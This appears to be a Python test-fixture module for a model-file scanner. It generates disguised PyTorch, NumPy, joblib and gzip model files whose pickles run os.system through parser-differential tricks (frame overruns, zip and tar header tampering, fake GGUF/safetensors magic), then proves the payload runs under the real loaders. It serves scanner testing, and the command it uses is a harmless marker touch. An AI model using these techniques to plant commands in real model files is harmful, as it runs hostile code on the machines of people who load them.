"""Parser-differential attacks on check-dir (issue 23), generated at test time, never committed.

Each file is read one way by a scanner and another way by the loader a user reaches for; each
carries a payload that REALLY runs under that loader: it creates a marker file (`touch MARKER`).
`prove(path, loader, marker)` runs the loader in a child process and says whether the marker
appeared, so a test shows the attack is real before it shows that check-dir refuses it.

`build_all(root, markers)` -> {name: Fixture}; `CLASSES` groups the names for the benchmark.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

TORCH_MAGIC = 0x1950A86A20F9469CFC6C

# the loader each fixture is proven against: a snippet run with `path` bound to the file
LOADERS = {
    "torch.load": "import torch; torch.load(path, weights_only=False)",
    "torch.load(buffer)": "import io, torch; torch.load(io.BytesIO(open(path, 'rb').read()), weights_only=False)",
    "numpy.load": ("import numpy as np\nr = np.load(path, allow_pickle=True)\n"
                   "[r[k] for k in r.files] if hasattr(r, 'files') else r"),
    "joblib.load": "import joblib; joblib.load(path)",
    "pickle.load(gzip)": "import gzip, pickle; pickle.load(gzip.open(path))",
}


@dataclass
class Fixture:
    name: str
    klass: str  # framing, number syntax, zip structure, format magic, tar member names, numpy, compressed
    path: Path
    loader: str  # a key of LOADERS
    marker: Path


# -- payload pieces ----------------------------------------------------------------------------------

def _proto0_call(command: str) -> bytes:
    """os.system(command) in protocol 0 (GLOBAL, STRING, TUPLE, REDUCE), no STOP."""
    return b"cos\nsystem\n(S'" + command.encode() + b"'\ntR"


def _proto2_call(command: str) -> bytes:
    data = command.encode()
    return b"cos\nsystem\nX" + struct.pack("<I", len(data)) + data + b"\x85R"


def payload_pickle(command: str) -> bytes:
    return b"\x80\x02" + _proto2_call(command) + b"."


def _torch_zip(state) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


def _benign_state():
    import torch

    return {"w": torch.ones(4)}


def _legacy_parts(data_pickle: bytes) -> list[bytes]:
    """torch's legacy layout: magic, protocol, sys_info, the data, storage keys."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return [pickle.dumps(TORCH_MAGIC, protocol=2), pickle.dumps(1001, protocol=2), pickle.dumps(sys_info, protocol=2),
            data_pickle, pickle.dumps([], protocol=2)]


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


# -- framing -----------------------------------------------------------------------------------------

def frame_past_stop_magic(command: str) -> bytes:
    """The magic-number pickle's FRAME swallows a benign legacy tail; the real tail follows the frame.
    A reader without peek (a buffer, the Python unpickler) continues after the frame, a scanner after STOP."""
    decoy = b"".join(_legacy_parts(pickle.dumps({}, protocol=2))[1:])
    magic = b"\x8a\x0a" + TORCH_MAGIC.to_bytes(10, "little") + b"."
    first = b"\x80\x04" + _frame(magic + decoy)
    return first + b"".join(_legacy_parts(payload_pickle(command))[1:])


def frame_past_stop_protocol(command: str) -> bytes:
    """The same with the FRAME in the protocol-version pickle."""
    parts = _legacy_parts(pickle.dumps({}, protocol=2))
    decoy = b"".join(parts[2:])
    protocol = b"\x80\x04" + _frame(b"M\xe9\x03." + decoy)
    return parts[0] + protocol + b"".join(_legacy_parts(payload_pickle(command))[2:])


# -- number syntax (protocol 0 arguments the C unpickler parses, pickletools does not) -------------------

def number_syntax(argument: bytes):
    def build(command: str) -> bytes:
        return argument + b"\n0" + _proto0_call(command) + b"."
    return build


# -- zip structure -----------------------------------------------------------------------------------

def _rewrite_zip(data: bytes, edit) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            for name, payload in edit(info.filename, source.read(info)):
                target.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), payload)
    return out.getvalue()


def _malicious_data_pkl(benign: bytes, command: str) -> bytes:
    """The benign state dict's pickle with os.system(...) run before it, padded to the same length."""
    evil = b"\x80\x02" + _proto2_call(command) + b"0" + benign[2:]
    return evil


def zip_duplicate_data_pkl(command: str) -> bytes:
    """Two members named archive/data.pkl: the benign one first, the payload last (what both readers take)."""
    def edit(name, payload):
        if name.endswith("/data.pkl"):
            return [(name, payload), (name, _malicious_data_pkl(payload, command))]
        return [(name, payload)]
    return _rewrite_zip(_torch_zip(_benign_state()), edit)


def _patch_members(data: bytes, name: bytes, patch) -> bytes:
    out = bytearray(data)
    at = out.find(b"PK\x03\x04" + out[4:4])
    while at != -1:
        nlen = int.from_bytes(out[at + 26:at + 28], "little")
        if out[at + 30:at + 30 + nlen] == name:
            patch(out, at)
        at = out.find(b"PK\x03\x04", at + 4)
    return bytes(out)


def zip_local_name_differs(command: str) -> bytes:
    """The local header of archive/data.pkl names archive/data.pkx: Python's zipfile refuses to read
    the member, torch's reader uses the central directory and loads it."""
    benign = _torch_zip(_benign_state())
    evil = _rewrite_zip(benign, lambda n, p: [(n, _malicious_data_pkl(p, command) if n.endswith("/data.pkl") else p)])
    return _patch_members(evil, b"archive/data.pkl", lambda out, at: out.__setitem__(slice(at + 30 + 15, at + 30 + 16), b"x"))


def zip_crc_mismatch(command: str) -> bytes:
    """data.pkl's CRC is wrong in both headers: zipfile raises 'Bad CRC-32', torch's reader loads it."""
    benign = _torch_zip(_benign_state())
    evil = bytearray(_rewrite_zip(benign, lambda n, p: [(n, _malicious_data_pkl(p, command) if n.endswith("/data.pkl") else p)]))
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = evil.find(sig)
        evil[at + off:at + off + 4] = b"\x00\x00\x00\x00"
    return bytes(evil)


def zip_prepended_pickle(command: str) -> bytes:
    """A pickle, then a benign torch zip: zipfile and unzip see the zip, torch.load reads a pickle."""
    return payload_pickle(command) + _torch_zip(_benign_state())


# -- format magic ------------------------------------------------------------------------------------

def gguf_magic_pickle(command: str) -> bytes:
    """'G' is BINFLOAT: the unpickler reads 'GUF' and 5 more bytes as a float, pops it, then runs on."""
    return b"GGUF\x03\x00\x00\x00\x000" + _proto0_call(command) + b"."


def safetensors_magic_pickle(command: str) -> bytes:
    """The first 8 bytes read as a small header length and byte 8 is '{': it looks like safetensors.
    To the unpickler it is BINUNICODE 'X' of 12 characters, popped."""
    text = b"\x00\x00\x00{\"a\": 1}  "
    head = b"X" + struct.pack("<I", len(text)) + text + b"0"
    body = head + _proto0_call(command) + b"."
    size = 8 + int.from_bytes(head[:8], "little")
    return body + b" " * max(0, size - len(body))


def sevenzip_magic_pickle(command: str) -> bytes:
    """Starts with a 7z signature: SHORT_BINBYTES of 6 bytes, popped; a scanner leaves 7z unread."""
    signature = b"7z\xbc\xaf\x27\x1c"
    return b"C" + bytes([len(signature)]) + signature + b"0" + _proto0_call(command) + b"."


# -- tar member names --------------------------------------------------------------------------------

def _tar_header(name: bytes, size: int) -> bytes:
    header = bytearray(512)
    header[0:len(name)] = name
    header[100:108] = b"0000644\x00"
    header[108:116] = b"0000000\x00"
    header[116:124] = b"0000000\x00"
    header[124:136] = f"{size:011o}\x00".encode()
    header[136:148] = b"00000000000\x00"
    header[148:156] = b" " * 8
    header[156:157] = b"0"
    header[257:263] = b"ustar\x00"
    header[263:265] = b"00"
    checksum = sum(header)
    header[148:156] = f"{checksum:06o}\x00 ".encode()
    return bytes(header)


def _legacy_tar(first_name: bytes, command: str) -> bytes:
    """torch's legacy tar layout (storages, tensors, pickle), led by a member whose name is `first_name`."""
    members = [(first_name, b"decoy"), (b"storages", payload_pickle(command)),
               (b"tensors", pickle.dumps(0, protocol=2)), (b"pickle", pickle.dumps({}, protocol=2))]
    out = bytearray()
    for name, data in members:
        out += _tar_header(name, len(data)) + data + b"\x00" * (-len(data) % 512)
    return bytes(out + b"\x00" * 1024)


def tar_named_gguf(command: str) -> bytes:
    return _legacy_tar(b"GGUF\x03", command)


def tar_named_safetensors(command: str) -> bytes:
    # tar stops the name at the first NUL; the rest of the 100-byte field makes bytes 8.. a '{'
    return _legacy_tar(b"\x10\x00\x00\x00\x00\x00\x00\x00{\"__metadata__\":{}}", command)


def tar_named_numpy(command: str) -> bytes:
    return _legacy_tar(b"\x93NUMPY\x01\x00", command)


# -- numpy ---------------------------------------------------------------------------------------------

def _npy(descr: str, shape: str, body: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + body


def npy_descr(descr: str):
    def build(command: str) -> bytes:
        return _npy(descr, "(1,)", payload_pickle(command))
    return build


def npz_with(descr: str):
    def build(command: str) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("weights.npy", _npy("'<f4'", "(2,)", b"\x00" * 8))
            archive.writestr("meta.npy", _npy(descr, "(1,)", payload_pickle(command)))
        return out.getvalue()
    return build


# -- compressed pickles --------------------------------------------------------------------------------

def _proto0_pickle(command: str) -> bytes:
    return b"(dp0\n" + _proto0_call(command) + b"."


def zlib_proto0(command: str) -> bytes:
    return zlib.compress(_proto0_pickle(command))


def gzip_two_members(command: str) -> bytes:
    """gzip.open reads every member; a decompressor that stops at the first member sees a stub."""
    data = _proto0_pickle(command)
    return gzip.compress(data[:3]) + gzip.compress(data[3:])


def gzip_bin(command: str) -> bytes:
    return gzip.compress(payload_pickle(command))


def xz_joblib(command: str) -> bytes:
    return lzma.compress(_proto0_pickle(command))


def bz2_joblib(command: str) -> bytes:
    return bz2.compress(_proto0_pickle(command))


# name: (class, file name, builder, loader)
FIXTURES = {
    "frame_past_stop_magic": ("framing", "pytorch_model.bin", frame_past_stop_magic, "torch.load(buffer)"),
    "frame_past_stop_protocol": ("framing", "pytorch_model.bin", frame_past_stop_protocol, "torch.load(buffer)"),
    "int_hex": ("number syntax", "pytorch_model.bin", number_syntax(b"I0x1F"), "torch.load"),
    "int_binary": ("number syntax", "pytorch_model.bin", number_syntax(b"I0b101"), "torch.load"),
    "long_octal": ("number syntax", "pytorch_model.bin", number_syntax(b"L0o17"), "torch.load"),
    "int_leading_zero": ("number syntax", "pytorch_model.bin", number_syntax(b"I017"), "torch.load"),
    "int_negative_hex": ("number syntax", "pytorch_model.bin", number_syntax(b"I-0x10"), "torch.load"),
    "zip_duplicate_data_pkl": ("zip structure", "pytorch_model.bin", zip_duplicate_data_pkl, "torch.load"),
    "zip_local_name_differs": ("zip structure", "pytorch_model.bin", zip_local_name_differs, "torch.load"),
    "zip_crc_mismatch": ("zip structure", "pytorch_model.bin", zip_crc_mismatch, "torch.load"),
    "zip_prepended_pickle": ("zip structure", "pytorch_model.bin", zip_prepended_pickle, "torch.load"),
    "gguf_magic_pickle": ("format magic", "pytorch_model.bin", gguf_magic_pickle, "torch.load"),
    "safetensors_magic_pickle": ("format magic", "pytorch_model.bin", safetensors_magic_pickle, "torch.load"),
    "sevenzip_magic_pickle": ("format magic", "model.pt", sevenzip_magic_pickle, "torch.load"),
    "tar_named_gguf": ("tar member names", "pytorch_model.bin", tar_named_gguf, "torch.load"),
    "tar_named_safetensors": ("tar member names", "pytorch_model.bin", tar_named_safetensors, "torch.load"),
    "tar_named_numpy": ("tar member names", "pytorch_model.bin", tar_named_numpy, "torch.load"),
    "npy_descr_object": ("numpy", "arrays.npy", npy_descr("'object'"), "numpy.load"),
    "npy_descr_object_underscore": ("numpy", "arrays.npy", npy_descr("'object_'"), "numpy.load"),
    "npy_structured_object_field": ("numpy", "arrays.npy", npy_descr("[('w', '<f4'), ('meta', 'object')]"),
                                    "numpy.load"),
    "npz_member_descr_object": ("numpy", "arrays.npz", npz_with("'object'"), "numpy.load"),
    "npz_member_structured": ("numpy", "arrays.npz", npz_with("[('meta', 'object')]"), "numpy.load"),
    "joblib_zlib_proto0": ("compressed", "model.joblib", zlib_proto0, "joblib.load"),
    "joblib_xz_proto0": ("compressed", "model.joblib", xz_joblib, "joblib.load"),
    "joblib_bz2_proto0": ("compressed", "model.pkl", bz2_joblib, "joblib.load"),
    "gzip_two_members": ("compressed", "model.pkl", gzip_two_members, "pickle.load(gzip)"),
    "gzip_bin": ("compressed", "pytorch_model.bin", gzip_bin, "pickle.load(gzip)"),
}

CLASSES = sorted({klass for klass, *_ in FIXTURES.values()})


def build(root: Path, name: str, markers: Path) -> Fixture:
    """root/name/ holds a config.json and the fixture file; its payload touches markers/name."""
    klass, rel, builder, loader = FIXTURES[name]
    directory = root / name
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "config.json").write_text(json.dumps({"model_type": "llama"}))
    marker = markers / name
    path = directory / rel
    path.write_bytes(builder(f"touch {marker}"))
    return Fixture(name, klass, path, loader, marker)


def build_all(root: Path, markers: Path) -> dict[str, Fixture]:
    markers.mkdir(parents=True, exist_ok=True)
    return {name: build(root, name, markers) for name in FIXTURES}


def prove(fixture: Fixture, python: str = sys.executable, timeout: float = 120) -> bool:
    """Run the fixture's loader on it in a child process: True when the payload ran."""
    if fixture.marker.exists():
        fixture.marker.unlink()
    code = f"path = {str(fixture.path)!r}\n" + LOADERS[fixture.loader]
    subprocess.run([python, "-c", code], capture_output=True, timeout=timeout, cwd=fixture.path.parent)
    return fixture.marker.exists()


_PROVE_ALL = r"""
import json, sys
for path, code in json.load(sys.stdin):
    try:
        exec(code, {"path": path})
    except BaseException:
        pass
"""


def prove_all(fixtures: list[Fixture], python: str = sys.executable, timeout: float = 600) -> dict[str, bool]:
    """prove() for many fixtures in one child process (one torch import): name -> payload ran."""
    for fixture in fixtures:
        if fixture.marker.exists():
            fixture.marker.unlink()
    jobs = [(str(f.path), LOADERS[f.loader]) for f in fixtures]
    subprocess.run([python, "-c", _PROVE_ALL], input=json.dumps(jobs), capture_output=True, text=True,
                   timeout=timeout, cwd=fixtures[0].path.parent if fixtures else None)
    return {f.name: f.marker.exists() for f in fixtures}
